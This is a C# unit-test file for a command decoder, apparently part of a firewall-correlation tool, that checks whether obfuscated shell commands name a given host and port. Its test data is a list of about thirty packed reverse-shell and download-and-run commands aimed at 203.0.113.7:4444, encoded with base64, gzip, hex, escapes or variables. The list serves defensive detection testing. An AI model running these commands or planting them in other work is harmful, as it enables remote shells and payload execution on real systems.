// SPDX-License-Identifier: Apache-2.0
using System.Text;
using FwCorrelate.Commands;
using FwCorrelate.Network;

namespace FwCorrelate.Core.Tests.Commands;

/// <summary>Commands as accounts of incidents show them: packed, nested, escaped, with variables. All go to one place.</summary>
[TestClass]
public sealed class DecodingTests
{
    private const int Port = 4444;
    private static readonly HostAddress Target = HostAddress.Parse("203.0.113.7");

    private static readonly string[] Packed =
    [
        "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE= | base64 -d | bash",
        "echo WTNWeWJDQXRjeUJvZEhSd09pOHZNakF6TGpBdU1URXpMamM2TkRRME5DOTRJSHdnYzJnPQ== | base64 -d | base64 -d | sh",
        "echo V1ROV2VXSkRRWFJqZVVKdlpFaFNkMDlwT0haTmFrRjZUR3BCZFUxVVJYcE1hbU0yVGtSUk1FNURPVFJKU0hkbll6Sm5QUT09 | base64 -d | base64 -d | base64 -d | sh",
        "echo H4sIAAAAAAACA0suLcpR0C1WyCgpKbDS1zcyMNYz0DM0NNYztzIBAv0KhRqF4gwAum43CiYAAAA= | base64 -d | gunzip | sh",
        "python3 -c \"import zlib,base64;exec(zlib.decompress(base64.b64decode('eJxLLi3KUdAtVsgoKSmw0tc3MjDWM9AzNDTWM7cyAQL9CoUaheIMANQmClI=')))\"",
        "python3 -c \"exec(__import__('gzip').decompress(__import__('base64').b64decode('H4sIAAAAAAACA0suLcpR0C1WyCgpKbDS1zcyMNYz0DM0NNYztzIBAv0KhRqF4gwAum43CiYAAAA=')))\"",
        "echo 62617368202d69203e26202f6465762f7463702f3230332e302e3131332e372f3434343420303e2631 | xxd -r -p | bash",
        "python3 -c \"exec(bytes.fromhex('6375726c202d7320687474703a2f2f3230332e302e3131332e373a343434342f78207c207368').decode())\"",
        "printf '\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x32\\x30\\x33\\x2e\\x30\\x2e\\x31\\x31\\x33\\x2e\\x37\\x3a\\x34\\x34\\x34\\x34\\x2f\\x78\\x20\\x7c\\x20\\x73\\x68' | sh",
        "echo -e '\\143\\165\\162\\154\\040\\055\\163\\040\\150\\164\\164\\160\\072\\057\\057\\062\\060\\063\\056\\060\\056\\061\\061\\063\\056\\067\\072\\064\\064\\064\\064\\057\\170\\040\\174\\040\\163\\150' | sh",
        "eval $'\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x32\\x30\\x33\\x2e\\x30\\x2e\\x31\\x31\\x33\\x2e\\x37\\x3a\\x34\\x34\\x34\\x34\\x2f\\x78\\x20\\x7c\\x20\\x73\\x68'",
        "powershell -enc SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADcAOgA0ADQANAA0AC8AeAA=",
        "pwsh -NoProfile -EncodedCommand aQB3AHIAIABoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4ANwA6ADQANAA0ADQALwB4AA==",
        "node -e \"eval(Buffer.from('cmVxdWlyZSgnbmV0JykuY29ubmVjdCg0NDQ0LCcyMDMuMC4xMTMuNycp','base64').toString())\"",
        "node -e \"eval(atob('ZmV0Y2goJ2h0dHA6Ly8yMDMuMC4xMTMuNzo0NDQ0Lycp'))\"",
        "H=203.0.113.7; P=4444; nc $H $P -e /bin/sh",
        "HOST=203.0.113.7 && PORT=4444 && curl http://${HOST}:${PORT}/x",
        "export C2=http://203.0.113.7:4444; wget $C2/payload",
        "A=203.0; B=113.7; curl http://$A.$B:4444/",
        "curl 'http%3A%2F%2F203.0.113.7%3A4444%2Fx'",
        "python3 - <<'EOF'\nimport base64\nexec(base64.b64decode('aW1wb3J0IHNvY2tldDtzb2NrZXQuY3JlYXRlX2Nvbm5lY3Rpb24oKCcyMDMuMC4xMTMuNycsNDQ0NCkp'))\nEOF",
        "base64 -d <<'EOF' | bash\nIyEvYmluL2Jhc2gKIyBhIGNvbW1lbnQgdGhhdCBtYWtlcyBpdCBsb25nZXIgdGhhbiBhIGxpbmUg\nb2YgYmFzZTY0IG91dHB1dCBpcwpiYXNoIC1pID4mIC9kZXYvdGNwLzIwMy4wLjExMy43LzQ0NDQgMD4mMQ==\nEOF",
        "base64 -d <<'EOF' | zcat | bash\nH4sIAAAAAAACA0suLcpR0C1WyCgpKbDS1zcyMNYz0DM0NNYztzIBAv0KhRqF4gyuioqKxKTklNS0\n9AxDI2MTUzNzC0uDwvLUopLK0sz8AnLlANmsoKF+AAAA\nEOF",
        "bash -c \"$(echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjc6NDQ0NC94IHwgc2g= | base64 --decode)\"",
        "sh -c 'echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjc6NDQ0NC94IHwgc2g= | openssl base64 -d -A | sh'",
        "python3 -c \"import base64;exec(base64.b64decode('Y3VybCAtcyBodHRwOi8v'+'MjAzLjAuMTEzLjc6NDQ0NC94IHwgc2g='))\"",
        "X=Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjc6NDQ0NC94IHwgc2g=; echo $X | base64 -d | sh",
        "echo ZWNobyBINHNJQUFBQUFBQUNBMHN1TGNwUjBDMVd5Q2dwS2JEUzF6Y3lNTll6MERNME5OWXp0eklCQXYwS2hScUY0Z3dBdW00M0NpWUFBQUE9IHwgYmFzZTY0IC1kIHwgZ3VuemlwIHwgc2g= | base64 -d | sh",
        "echo '1&>0 4444/7.311.0.302/pct/ved/ &> i- hsab' | rev | bash",
        "perl -MMIME::Base64 -e 'system(decode_base64(\"Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjc6NDQ0NC94IHwgc2g=\"))'",
        "ruby -rbase64 -e 'system(Base64.decode64(\"Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjc6NDQ0NC94IHwgc2g=\"))'",
        "php -r 'system(base64_decode(\"Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjc6NDQ0NC94IHwgc2g=\"));'",
    ];

    public static IEnumerable<object[]> Commands => Packed.Select(c => new object[] { c });

    [TestMethod]
    [DynamicData(nameof(Commands))]
    public void Names_OfAPackedCommand_IsItsDestination(string command) =>
        Assert.AreNotEqual(MentionKind.None, CommandReading.Of(command).Names(Target, Port, "").Kind, command);

    [TestMethod]
    [DataRow("for h in 10.0.0.1 10.0.0.2; do H=$h; nc $H 22; done", "10.0.0.9")]
    [DataRow("H=203.0.113.7; H=198.51.100.1; nc $H 4444", "192.0.2.1")]
    [DataRow("H=$(cat host); nc $H 4444", "203.0.113.7")]
    public void Names_OfAVariableThatIsNoConstant_IsNotMadeUp(string command, string other) =>
        Assert.AreEqual(MentionKind.None, CommandReading.Of(command).Names(HostAddress.Parse(other), Port, "").Kind);

    [TestMethod]
    public void Names_OfADestinationThatOnlyDecodingShows_IsNoLiteral() =>
        Assert.IsFalse(CommandReading.Of(Packed[0]).Names(Target, Port, "").IsLiteral);

    [TestMethod]
    public void Names_OfRandomTexts_IsNothing()
    {
        var random = new Random(11);
        for (var i = 0; i < 10_000; i++)
        {
            var bytes = new byte[random.Next(8, 400)];
            random.NextBytes(bytes);
            var command = (i % 3) switch
            {
                0 => $"echo {Convert.ToBase64String(bytes)} | base64 -d > f",
                1 => $"echo {Convert.ToHexString(bytes)} | xxd -r -p > f",
                _ => Encoding.Latin1.GetString(bytes),
            };
            var reading = CommandReading.Of(command);
            Assert.AreEqual(MentionKind.None, reading.Names(Target, Port, "").Kind, command);
            if (i % 3 != 2)
                Assert.IsEmpty(reading.ExactAddresses.ToList(), command);
        }
    }

    [TestMethod]
    [Timeout(TestLimits.Hangs, CooperativeCancellation = true)]
    public void Of_ABomb_IsBounded()
    {
        using var packed = new MemoryStream();
        using (var gzip = new System.IO.Compression.GZipStream(packed, System.IO.Compression.CompressionLevel.SmallestSize))
            gzip.Write(Encoding.ASCII.GetBytes(new string('a', 50_000_000)));
        var bomb = $"echo {Convert.ToBase64String(packed.ToArray())} | base64 -d | gunzip | sh";
        var nested = bomb;
        for (var i = 0; i < 8; i++)
            nested = $"echo {Convert.ToBase64String(Encoding.ASCII.GetBytes(nested))} | base64 -d | sh";
        Assert.AreEqual(MentionKind.None, CommandReading.Of(bomb).Names(Target, Port, "").Kind);
        Assert.AreEqual(MentionKind.None, CommandReading.Of(nested).Names(Target, Port, "").Kind);
        var doubling = string.Join(';', Enumerable.Range(0, 40).Select(i => $"V{i + 1}=$V{i}$V{i}")) + ";V0=aaaaaaaaaaaaaaaa;echo $V40";
        Assert.AreEqual(MentionKind.None, CommandReading.Of(doubling).Names(Target, Port, "").Kind);
    }
}
